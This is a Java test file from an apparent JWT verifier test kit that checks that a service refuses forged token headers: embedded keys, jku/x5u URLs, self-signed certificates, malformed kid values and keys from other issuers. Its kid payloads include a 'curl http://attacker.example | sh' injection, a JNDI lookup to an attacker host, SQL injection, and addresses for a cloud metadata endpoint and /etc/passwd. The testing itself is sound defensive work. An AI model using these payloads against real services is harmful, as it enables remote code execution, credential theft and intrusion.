// SPDX-License-Identifier: Apache-2.0
package dev.flyball.testkit.hostile;

import dev.flyball.issuer.Algorithm;
import dev.flyball.issuer.LocalIssuer;
import dev.flyball.issuer.SigningKey;
import dev.flyball.issuer.TokenBuilder;
import dev.flyball.testkit.hostile.Row.Need;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Rows 21 to 27: headers that name a key (RFC 8725, section 3.10). */
final class HeaderRows {

  /** A kid that two issuers have given to keys of their own. */
  static final String SHARED_ID = "shared-by-two-issuers";

  private static final Expected UNKNOWN =
      Expected.invalidToken("kid_unknown", "malformed").withFetch();

  private HeaderRows() {}

  static List<Row> all() {
    return List.of(
        embedded(), addresses(), certificates(), keyIds(), missingKeyId(), otherKey(), issuers());
  }

  private static Row embedded() {
    return Row.of(21, "key in the header (CVE-2018-0114)")
        .token("RSA", t -> t.forge().embeddedJwk(), "header_forbidden")
        .token("EC", t -> t.algorithm(Algorithm.ES256).forge().embeddedJwk(), "header_forbidden")
        .each(
            "with the kid of the real key",
            (service, target) -> {
              SigningKey stranger = service.issuer().keys().stranger(Algorithm.RS256);
              TokenBuilder token =
                  service
                      .token(target)
                      .signedBy(stranger)
                      .header("kid", service.issuer().keys().current().id())
                      .header("jwk", stranger.publicJwk());
              service.refuses(
                  target, Expected.invalidToken("header_forbidden"), Attacked.bearer(token.sign()));
            });
  }

  private static Row addresses() {
    Row row = Row.of(22, "address of a key in the header");
    for (String address :
        List.of(
            "CANARY/jwks",
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd",
            "jar:CANARY/x.jar!/keys",
            "//attacker.example/jwks",
            "")) {
      row.each("jku " + address, (service, target) -> pointsTo(service, target, "jku", address));
      row.each("x5u " + address, (service, target) -> pointsTo(service, target, "x5u", address));
    }
    return row.each(
        "issuer that nobody knows, with keys of its own",
        (service, target) ->
            service.refuses(
                target,
                Expected.invalidToken("issuer_unknown"),
                Attacked.bearer(
                    service.token(target).issuer(service.canary().url("")).forge().stranger())));
  }

  private static void pointsTo(
      Attacked service, HostileTarget target, String header, String address) throws Exception {
    String url = address.replace("CANARY", service.canary().url(""));
    TokenBuilder token = service.token(target);
    String forged = header.equals("jku") ? token.forge().jku(url) : token.forge().x5u(url);
    service.refuses(target, Expected.invalidToken("header_forbidden"), Attacked.bearer(forged));
  }

  private static Row certificates() {
    return Row.of(23, "certificate in the header")
        .token("self-signed", t -> t.forge().x5c(), "header_forbidden")
        .token(
            "self-signed, ES256",
            t -> t.algorithm(Algorithm.ES256).forge().x5c(),
            "header_forbidden");
  }

  private static Row keyIds() {
    Map<String, Object> ids = new LinkedHashMap<>();
    ids.put("a path", "../../dev/null");
    ids.put("SQL", "' OR '1'='1' --");
    ids.put("a shell command", "key; curl http://attacker.example | sh");
    ids.put("JNDI", "${jndi:ldap://attacker.example/a}");
    ids.put("10 KB", "k".repeat(10_000));
    ids.put("2 KB", "k".repeat(2_000));
    ids.put("line feeds", "a\r\nSet-Cookie: a=b");
    ids.put("NUL", "a\u0000b");
    ids.put("an escape sequence", "\u001b[31mred");
    ids.put("empty", "");
    ids.put("a number", 7);
    ids.put("true", true);
    ids.put("an array", List.of("a"));
    ids.put("an object", Map.of("a", "b"));
    Row row = Row.of(24, "kid that is no key");
    ids.forEach((name, id) ->
        row.token(
            name,
            t -> t.header("kid", id).sign(),
            Expected.invalidToken("kid_unknown", "malformed", "too_large").orByHost().withFetch()));
    return row.token("null", t -> t.header("kid", null).sign(), UNKNOWN);
  }

  private static Row missingKeyId() {
    return Row.of(25, "no kid")
        .token(
            "two keys fit",
            t -> t.withoutHeader("kid").sign(),
            Expected.invalidToken("kid_required").withFetch())
        .needs(Need.CONFIGURED)
        .once(
            "one key fits",
            (service, target) ->
                service.accepts(
                    target,
                    Attacked.bearer(
                        service
                            .token(service.issuer("single"), target)
                            .withoutHeader("kid")
                            .sign())));
  }

  private static Row otherKey() {
    return Row.of(26, "signed by another key than kid says")
        .token("by a stranger", t -> t.forge().stranger(), "signature_invalid")
        .each(
            "by another key of the set",
            (service, target) -> {
              TokenBuilder token =
                  service
                      .token(target)
                      .signedBy(service.issuer().keys().current(Algorithm.RS256))
                      .header("kid", olderKeyId(service.issuer()));
              service.refuses(
                  target,
                  Expected.invalidToken("signature_invalid"),
                  Attacked.bearer(token.sign()));
            })
        .token("claim changed", t -> t.forge().tamperedClaim("sub", "root"), "signature_invalid")
        .token("one bit turned", t -> t.forge().tamperedSignature(), "signature_invalid");
  }

  /** The RSA key that was published before the present one. */
  private static String olderKeyId(LocalIssuer issuer) {
    String current = issuer.keys().current(Algorithm.RS256).id();
    for (Map<String, ?> jwk : issuer.keys().published()) {
      if ("RSA".equals(jwk.get("kty")) && !current.equals(jwk.get("kid"))) {
        return String.valueOf(jwk.get("kid"));
      }
    }
    return current;
  }

  private static Row issuers() {
    return Row.of(27, "key of another issuer")
        .needs(Need.CONFIGURED)
        .each(
            "key of A, iss B",
            (service, target) -> crossed(service, target, service.issuer(), "other", UNKNOWN))
        .each(
            "key of B, iss A",
            (service, target) -> crossed(service, target, service.issuer("other"), "main", UNKNOWN))
        .each(
            "one kid at both",
            (service, target) -> {
              SigningKey ofOther =
                  service.issuer("other").keys().current(Algorithm.ES256).withId(SHARED_ID);
              TokenBuilder token = service.token(target).signedBy(ofOther);
              service.refuses(
                  target,
                  Expected.invalidToken("signature_invalid"),
                  Attacked.bearer(token.sign()));
            });
  }

  private static void crossed(
      Attacked service, HostileTarget target, LocalIssuer signer, String claimed, Expected expected)
      throws Exception {
    String token = service.token(signer, target).issuer(service.issuer(claimed).issuer()).sign();
    service.refuses(target, expected, Attacked.bearer(token));
  }
}
